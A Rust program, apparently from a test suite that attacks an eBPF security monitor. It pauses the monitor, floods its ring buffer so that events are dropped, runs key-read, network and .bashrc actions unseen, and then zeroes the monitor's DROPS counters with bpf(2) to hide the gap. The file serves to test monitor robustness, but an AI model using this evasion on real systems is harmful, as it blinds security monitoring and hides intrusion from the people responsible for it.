//! Blind and zero: stops the monitor (SIGSTOP), fills its ring buffer with opens until the
//! kernel drops records, acts (key read, connect, .bashrc) while every record is dropped,
//! resets the monitor's DROPS counters to zero with bpf(2), and lets the monitor go on
//! (SIGCONT).
//!
//! `attack-blind [--no-zero]` (with `--no-zero` the counters are left as they are, to show what
//! the monitor reports then). Needs root and `ATTACK_HOME`.
#[path = "../attack_common.rs"]
mod common;

use common::*;

fn drops(map: &Map) -> u64 {
    let cpus = possible_cpus();
    let stride = (map.info.value_size as usize).div_ceil(8) * 8;
    let mut total = 0;
    for slot in 0..map.info.max_entries {
        let mut values = vec![0u8; stride * cpus];
        if lookup(&map.fd, &slot.to_ne_bytes(), &mut values).is_ok() {
            for c in 0..cpus {
                total += u64::from_ne_bytes(values[c * stride..c * stride + 8].try_into().unwrap());
            }
        }
    }
    total
}

fn main() {
    let zero = !std::env::args().any(|a| a == "--no-zero");
    let home = attack_home();
    let listener = listener();
    let port = listener.local_addr().unwrap().port();
    let monitor = monitor_pid();
    let Some(drop_map) = monitor_map(monitor, "DROPS") else {
        die("the monitor holds no DROPS map")
    };
    let scratch = home.join("flood");
    std::fs::write(&scratch, b"x").unwrap();
    let path = cstr(&scratch);

    // SAFETY: kill with a pid and a signal number.
    if unsafe { libc::kill(monitor, libc::SIGSTOP) } != 0 {
        die(&format!(
            "SIGSTOP {monitor}: {}",
            std::io::Error::last_os_error()
        ));
    }
    say(&format!("stopped the monitor ({monitor})"));
    let before = drops(&drop_map);
    let mut opens = 0u64;
    // Opens for writing are never folded in the kernel: each is a record in the ring.
    while drops(&drop_map) == before {
        for _ in 0..1000 {
            // SAFETY: a valid path; the fd is closed at once.
            let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
            if fd >= 0 {
                unsafe { libc::close(fd) };
            }
        }
        opens += 1000;
        if opens > 10_000_000 {
            die("the ring never filled");
        }
    }
    say(&format!(
        "ring full after {opens} opens: DROPS {before} -> {}",
        drops(&drop_map)
    ));
    act(&home, port);
    let after = drops(&drop_map);
    say(&format!("DROPS now {after}"));
    if zero {
        match zero_percpu_counters(&drop_map) {
            Ok(n) => say(&format!(
                "zeroed DROPS (map id {}): was {n}, now {}",
                drop_map.info.id,
                drops(&drop_map)
            )),
            Err(e) => die(&format!("zeroing DROPS: {e}")),
        }
    }
    // SAFETY: as above.
    unsafe { libc::kill(monitor, libc::SIGCONT) };
    say("let the monitor go on (SIGCONT)");
    drop(listener);
}
